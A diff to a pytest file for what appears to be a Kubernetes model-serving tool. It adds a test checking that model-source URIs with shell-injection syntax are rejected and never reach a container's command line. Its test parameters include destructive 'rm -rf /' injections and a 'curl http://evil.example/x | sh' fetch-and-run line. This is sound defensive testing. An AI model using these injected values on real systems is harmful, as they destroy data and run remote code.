@@ -14,6 +14,7 @@ import kubernetes_validate  # type: ignore[import-untyped]
 import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
+from pydantic import ValidationError
 
 from servefleet.plan import Workload, desired_workload, workload_hash
 from servefleet.runtime.base import WorkloadUnsupported
@@ -557,6 +558,36 @@ def test_the_model_source_reaches_the_stage_container_only_as_an_env_value(sourc
         assert not SHELLS & set(argv), argv
         assert all(source not in part for part in argv)
     assert "sh -c" not in json.dumps(manifests)
+
+
+HOSTILE_SOURCES = [
+    pytest.param("s3://bucket/$(rm -rf /)", id="substitution"),
+    pytest.param("s3://bucket/`rm -rf /`", id="backticks"),
+    pytest.param("s3://bucket/x; curl http://evil.example/x | sh", id="semicolon"),
+    pytest.param("s3://bucket/x\nrm -rf /", id="newline"),
+    pytest.param("s3://bucket/x' && rm -rf / #\"", id="quotes"),
+]
+
+
+@pytest.mark.parametrize("source", HOSTILE_SOURCES)
+def test_a_hostile_model_source_is_refused_and_would_reach_no_command_line(source: str) -> None:
+    """Verify both defences: the spec refuses shell syntax in a model URI, and a
+    value that got past it (a record written by other means) would still reach the
+    staging container only as an env value, never its command line."""
+    with pytest.raises(ValidationError, match="model_source"):
+        make_endpoint(model_source=source)
+    workload = planned(model_source="s3://bucket/model").model_copy(update={"model_source": source})
+    manifests = render(workload, ALB)
+
+    (stage,) = pod(by_kind(manifests, "Deployment"))["initContainers"]
+    assert stage["command"] == ["python", "-m", "servefleet.stage"]
+    assert "args" not in stage
+    assert env_of(stage)["SERVEFLEET_MODEL_SOURCE"] == source
+    fragments = {"rm", "curl", "$(", "`", ";", "\n", "'", '"', "&&", "evil", "bucket"}
+    for item in containers(manifests):
+        argv = item.get("command", []) + item.get("args", [])
+        assert not [part for part in argv for piece in fragments if piece in part], argv
+    assert [text for text in strings(manifests) if source in text] == [source]
 
 
 def test_model_path_and_volume_size_come_from_the_spec_and_the_region() -> None:
